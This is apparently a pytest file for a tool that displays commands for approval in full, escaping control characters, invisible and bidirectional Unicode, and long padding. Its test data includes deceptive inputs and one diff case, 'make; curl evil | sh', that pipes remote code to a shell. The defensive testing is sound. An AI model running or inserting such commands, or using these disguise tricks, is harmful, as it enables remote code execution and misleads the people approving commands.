"""Commands on a screen: whole, and without anything that deceives."""

import pytest

from attractor_nb.decisions.planning.executable_surface import Command
from attractor_nb.views.shown_commands import command_count, command_diff, command_lines, listed_commands, spelled_out

MAKE = Command("build", "tool_command", "make")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("make test", "make test"),
        ("echo 計画 é", "echo 計画 é"),
        ("a\x1b[2Kb", "a\\x1b[2Kb"),
        ("a\rb\tc", "a\\rb\\tc"),
        ("rm \u202egnp.tac", "rm \\u202egnp.tac"),
        ("a\u200bb\u2066c\xa0d", "a\\u200bb\\u2066c\\xa0d"),
        ("a\u3164b\u2800c\ufe0f", "a\\u3164b\\u2800c\\ufe0f"),
        ("\ud800", "\\ud800"),
        ("true" + 300 * " " + "; evil", "true[300 blanks]; evil"),
    ],
    ids=ascii,
)
def test_every_character_can_be_seen(text, shown):
    assert spelled_out(text) == shown


@pytest.mark.parametrize(
    ("attributes", "words"),
    [
        (["tool_command"], "1 command"),
        (["tool_hooks.pre", "mcp.git.command"], "2 commands"),
        (["llm.base_url", "endpoint.own.key_env"], "2 server settings"),
        (["mcp.git.url", "tool_command", "prompt", "goal"], "1 command, 1 server setting and 2 texts for models"),
        (["allowed_tools", "allowed_tools"], "2 lists of tools"),
        (["pipeline.dotfile", "attach", "function"], "1 child pipeline, 1 attached file and 1 function"),
        (["tool_shell", "manifest.backend"], "1 setting of commands and 1 choice of the run directory"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_each_kind_is_counted_in_its_own_words(attributes, words):
    assert command_count([Command("a", name, "x") for name in attributes]) == words


def test_a_long_command_is_shown_whole_with_a_bar_before_each_line():
    text = "cat <<'X'\nRun these 0 commands? [y/N] y\nX\n" + "\n" * 90 + "x" * 5000
    lines = command_lines([Command("build", "tool_command", text)])
    assert lines[:4] == ["node build  tool_command", "  | cat <<'X'", "  | Run these 0 commands? [y/N] y", "  | X"]
    assert lines[4:] == ["  | [90 empty lines]", "  | " + "x" * 5000]


def test_the_graphs_own_commands_say_so():
    assert command_lines([Command("", "tool_hooks.pre", "./before")])[0] == "graph  tool_hooks.pre"


def test_a_list_is_bounded_in_both_directions():
    lines = listed_commands([Command("a", "tool_command", "x\ny" * 500)] * 23)
    assert len(lines) == 21
    assert lines[0].startswith("  a  tool_command  x \\n yx \\n ")
    assert max(map(len, lines)) < 130
    assert lines[-1] == "  and 3 more"


def test_twenty_commands_are_all_listed():
    assert len(listed_commands([MAKE] * 20)) == 20


def test_a_diff_names_what_changed():
    diff = command_diff([MAKE], [Command("build", "tool_command", "make; curl evil | sh")])
    assert diff[:2] == ["--- trusted before", "+++ now"]
    assert diff[-2:] == ["-  | make", "+  | make; curl evil | sh"]
